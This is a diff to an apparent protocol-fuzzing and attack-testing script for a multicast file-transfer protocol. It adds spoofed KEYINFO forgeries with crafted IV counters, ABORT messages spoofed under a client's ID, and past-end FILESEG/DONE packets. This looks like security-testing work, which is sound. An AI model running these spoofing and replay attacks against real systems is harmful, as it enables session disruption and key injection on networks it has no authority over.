@@ -586,7 +586,7 @@ def cmd_wire(a):
                + os.urandom(max(0, pay - 64)))
     # FILESEG / DONE past the end of any file
     for sec, blk in ((0xFFFF, 0), (0, 0xFFFF), (0xFFFF, 0xFFFF), (1, 0), (0x8000, 0x8000)):
-        for fid in range(0, 9):
+        for fid in range(1 if a.safe else 0, 9):  # DONE for file 0 ends a session (spoofed: legit)
             tx("pastend", header(FILESEG, 0, sid, g) + fileseg_body(fid, sec, blk, b"\xee" * BLOCK))
             tx("pastend", header(DONE, 0, sid, g) + done_body(fid, sec, [cid]))
     # forged KEYINFOs
@@ -748,6 +748,14 @@ def cmd_replay(a):
         if mut % 20 == 0:
             time.sleep(0.003)
     print("REPLAY sent %d altered (signature, ciphertext, last byte, IV counter, lengths)" % mut, flush=True)
+    if a.keyinfo_for:
+        sid = struct.unpack(">I", caught[0][4:8])[0]
+        inst = caught[0][12]
+        for k in range(a.keyinfo):
+            body = bytearray(keyinfo_body([a.keyinfo_for, 0x0DDBA11 + k]))
+            body[4:12] = struct.pack(">Q", 1 + k)  # IV counter
+            spoof_send(rs, srv, dst, header(KEYINFO, k, sid, a.group, inst) + bytes(body))
+        print("REPLAY sent %d forged KEYINFOs for 0x%08X" % (a.keyinfo, a.keyinfo_for), flush=True)
     return 0
 
 
@@ -789,6 +797,8 @@ def cmd_atserver(a):
         # ABORT from a stranger naming the client
         for k in range(3):
             tx("abort", a.stranger, abort_body("stranger abort", host=cid))
+        if a.id_abort:  # the client's own ID, from the attacker's address
+            tx("id_abort", cid, abort_body("spoofed client abort"))
         # forged KEYINFO_ACK (plaintext, and ENCRYPTED garbage) and CLIENT_KEY under the client's ID
         tx("keyinfo_ack", cid, keyinfo_ack_body(os.urandom(12)))
         tx("keyinfo_ack", cid, None, header(ENCRYPTED, 0, cid, g) + encrypted_body(
@@ -903,6 +913,8 @@ def main():
     rp.add_argument("--delay", type=float, default=2)
     rp.add_argument("--rounds", type=int, default=2)
     rp.add_argument("--mode", choices=("both", "verbatim", "altered"), default="both")
+    rp.add_argument("--keyinfo-for", type=hexint, help="also forged KEYINFOs for this client ID")
+    rp.add_argument("--keyinfo", type=int, default=20)
     at = sub.add_parser("atserver")
     at.add_argument("--to", required=True)
     at.add_argument("--src", required=True)
@@ -911,6 +923,7 @@ def main():
     at.add_argument("--stranger", type=hexint, default=0x0BADBAD0)
     at.add_argument("--duration", type=float, default=3)
     at.add_argument("--keylen", type=int, default=140)
+    at.add_argument("--id-abort", action="store_true", help="also ABORTs with the client's ID")
     at.add_argument("--siglen", type=int, default=128)
     a = ap.parse_args()
     return {"rogue": cmd_rogue, "sniff": cmd_sniff, "junk": cmd_junk, "abort": cmd_abort,
